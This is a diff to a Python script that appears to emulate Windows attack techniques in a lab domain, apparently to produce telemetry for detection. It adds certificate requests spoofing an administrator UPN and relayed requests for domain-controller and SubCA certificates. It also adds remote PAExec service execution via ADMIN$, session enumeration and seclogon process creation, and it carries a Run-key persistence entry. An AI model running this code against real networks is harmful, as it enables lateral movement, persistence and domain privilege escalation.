@@ -3,19 +3,20 @@
 usage: published.py WHAT HOST [PASSWORD]
 Sources: rapid7/metasploit-framework lib/msf/core/exploit/remote/smb/client/psexec.rb; Pennyw0rth/NetExec nxc/protocols/smb/{smbexec,
 atexec,wmiexec}.py and nxc/protocols/wmi/wmiexec.py; BishopFox/sliver client/command/exec/psexec.go; byt3bl33d3r/CrackMapExec
-cme/helpers/powershell.py; for Cobalt Strike, which is closed, the rules of SigmaHQ/sigma that name what its psexec and psexec_psh leave.
+cme/helpers/powershell.py; fortra/impacket impacket/dcerpc/v5/{icpr,tsts}.py, examples/tstool.py and ntlmrelayx's rpcattack.py;
+ly4k/Certipy certipy/lib/{req,rpc}.py; poweradminllc/PAExec {Remote,ConsoleRedir}.cpp and stdafx.h; reactos/reactos
+dll/win32/advapi32/misc/logon.c and sdk/include/reactos/idl/seclogon.idl; for Cobalt Strike, which is closed, the rules of SigmaHQ/sigma that name what its psexec and psexec_psh leave.
 """
 import base64
 import io
-import sys
+import os
+import struct
 
-from impacket.dcerpc.v5 import sasec, scmr, transport, tsch
+from impacket.dcerpc.v5 import rpcrt, sasec, scmr, tsch
 from impacket.dcerpc.v5.dcom import wmi
 from impacket.dcerpc.v5.dcomrt import DCOMConnection
-from impacket.dcerpc.v5.dtypes import NULL
 
-what, host = sys.argv[1:3]
-password = sys.argv[3] if len(sys.argv) > 3 else 'Passw0rd!'
+from client import NULL, declared, filled, host, password, pipe, port, what
 
 # A PE image of headers alone.
 PROGRAM = b'MZ' + b'\0' * 58 + b'\x40\0\0\0' + b'PE\0\0' + b'\x64\x86\1\0' + b'\0' * 12 + b'\xf0\0\x22\0' + b'\x0b\2' + b'\0' * 420
@@ -23,15 +24,6 @@ PROGRAM = b'MZ' + b'\0' * 58 + b'\x40\0\0\0' + b'PE\0\0' + b'\x64\x86\1\0' + b'\
 
 def encoded(script):
     return base64.b64encode(script.encode('utf-16le')).decode()
-
-
-def pipe(name, interface):
-    over = transport.DCERPCTransportFactory(r'ncacn_np:%s[\pipe\%s]' % (host, name))
-    over.set_credentials('Administrator', password, 'LAB')
-    rpc = over.get_dce_rpc()
-    rpc.connect()
-    rpc.bind(interface)
-    return rpc, over.get_smb_connection()
 
 
 def service(name, shown, path, drop=None, output=None, delete=()):
@@ -161,6 +153,101 @@ def wmi_registry():
     registry.SetStringValue(2147483650, 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', 'Inventory',
                             'C:\\ProgramData\\Inventory\\agent.exe')
     connection.disconnect()
+
+
+def certificate(rpc, template, name):
+    from cryptography import x509
+    from cryptography.hazmat.primitives import hashes, serialization
+    from cryptography.hazmat.primitives.asymmetric import rsa
+    key = rsa.generate_private_key(65537, 2048)
+    subject = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, name)])
+    asked = x509.CertificateSigningRequestBuilder(subject).sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.DER)
+    attributes = '\n'.join(['CertificateTemplate:' + template, 'SAN:upn=administrator@lab.local'])
+    request = filled(declared.ICERT_PASSAGE.CertServerRequest(), dwFlags=0, pwszAuthority='LAB-CA\0', pdwRequestId=0)
+    for field, data in ('pctbAttribs', (attributes + '\0').encode('utf-16le')), ('pctbRequest', asked):
+        request[field]['cb'], request[field]['pb'] = len(data), data
+    print(hex(rpc.request(request)['pdwDisposition']))
+
+
+def certificates():
+    certificate(pipe('cert', declared.ICERT_PASSAGE.uuid, level=rpcrt.RPC_C_AUTHN_LEVEL_PKT_PRIVACY)[0], 'User', 'Ssales')
+    relayed = port(49663, declared.ICERT_PASSAGE.uuid, rpcrt.RPC_C_AUTHN_LEVEL_CONNECT)
+    certificate(relayed, 'Machine', 'DC1$')
+    certificate(relayed, 'SubCA', 'DC1$')
+
+
+def terminals():
+    smb, sealed = None, rpcrt.RPC_C_AUTHN_LEVEL_PKT_PRIVACY
+    enumeration, smb = pipe('LSM_API_service', declared.TERM_SRV_ENUMERATION.uuid, level=sealed)
+    calls = declared.TERM_SRV_ENUMERATION
+    handle = enumeration.request(filled(calls.RpcOpenEnum(), hBinding=bytes(20)))['phEnum']
+    found = enumeration.request(filled(calls.RpcGetEnumResult(), hEnum=handle, Level=1))['ppSessionEnumResult']
+    enumeration.request(filled(calls.RpcCloseEnum(), phEnum=handle))
+    session, _ = pipe('LSM_API_service', declared.TERM_SRV_SESSION.uuid, smb, sealed)
+    for one in found:
+        number = one['Data']['SessionEnum_Level1']['SessionId']
+        session.request(filled(declared.TERM_SRV_SESSION.RpcGetSessionInformationEx(), SessionId=number, Level=1))
+    legacy, _ = pipe('Ctx_WinStation_API_service', declared.LEGACY_API.uuid, smb, sealed)
+    opened = filled(declared.LEGACY_API.RpcWinStationOpenServer(), hBinding=bytes(20))
+    handle = legacy.request(opened, checkError=False)['phServer']
+    processes = declared.LEGACY_API.RpcWinStationGetAllProcesses()
+    legacy.request(filled(processes, hServer=handle, Level=0, pNumberOfProcesses=0x8000), checkError=False)
+
+
+def paexec_message(number, payload, client=0x51c3):
+    rest = bytearray(struct.pack('<LL', client, len(payload)) + payload)
+    if number != 1:
+        return struct.pack('<H', number) + rest
+    key = value = struct.unpack('<L', os.urandom(4))[0]
+    for at in range(len(rest) - 3):
+        struct.pack_into('<L', rest, at, struct.unpack_from('<L', rest, at)[0] ^ value)
+        value = value + 3 & 0xffffffff
+    return struct.pack('<HL', number, key) + rest
+
+
+def paexec_text(value):
+    return struct.pack('<L', len(value)) + value.encode('utf-16le')
+
+
+def paexec():
+    """paexec \\\\HOST -u LAB\\backup -p ... whoami /all, by process 4242 of CLIENT."""
+    name, process = 'PAExec-4242-CLIENT', 4242
+    rpc, smb = pipe('svcctl', scmr.MSRPC_UUID_SCMR)
+    smb.putFile('ADMIN$', name + '.exe', io.BytesIO(PROGRAM).read)
+    manager = scmr.hROpenSCManagerW(rpc)['lpScHandle']
+    made = scmr.hRCreateServiceW(rpc, manager, name + '\0', name + '\0', lpBinaryPathName='%SystemRoot%\\' + name + '.exe -service\0',
+                                 dwStartType=scmr.SERVICE_DEMAND_START)['lpServiceHandle']
+    scmr.hRStartServiceW(rpc, made)
+    tree = smb.connectTree('IPC$')
+    control = smb.openFile(tree, name + '.exe')
+    settings = struct.pack('<LL5?L3?', 1, 0, False, False, False, False, False, 0xffffffff, False, False, False)
+    settings += paexec_text('Winter2023!') + paexec_text('LAB\\backup') + b'\0' + paexec_text('') + struct.pack('<?L', False, 0x20)
+    settings += paexec_text('whoami') + paexec_text('/all') + b'\0\0' + paexec_text('') + b'\0' + paexec_text('') * 2 + struct.pack('<LLL', 0, 0, 0)
+    smb.writeNamedPipe(tree, control, paexec_message(1, settings))
+    print(smb.readNamedPipe(tree, control))
+    smb.writeNamedPipe(tree, control, paexec_message(5, struct.pack('<L', process) + paexec_text('CLIENT')))
+    streams = [smb.openFile(tree, 'PAExec%sCLIENT%d' % (stream, process)) for stream in ('Out', 'Err', 'In')]
+    print(smb.readNamedPipe(tree, streams[0]))
+    print(smb.readNamedPipe(tree, control))
+    for opened in [*streams, control]:
+        smb.closeFile(tree, opened)
+    scmr.hRControlService(rpc, made, scmr.SERVICE_CONTROL_STOP)
+    scmr.hRDeleteService(rpc, made)
+    scmr.hRCloseServiceHandle(rpc, made)
+    smb.deleteFile('ADMIN$', name + '.exe')
+    smb.logoff()
+
+
+def secondary_logon():
+    rpc, _ = pipe('seclogon', declared.ISECLOGON.uuid)
+    request = declared.ISECLOGON.SeclCreateProcessWithLogonW()
+    filled(request['pRequest'], Username='backup\0', Domain='LAB\0', Password='Winter2023!\0', ApplicationName=NULL,
+           CommandLine='cmd.exe /c whoami\0', CurrentDirectory=NULL, Environment=NULL, dwEnvironmentSize=0,
+           dwLogonFlags=1, dwCreationFlags=0x400, dwProcessId=4242)
+    try:
+        rpc.request(request)
+    except rpcrt.DCERPCException as refusal:
+        print(refusal)
 
 
 globals()[what]()
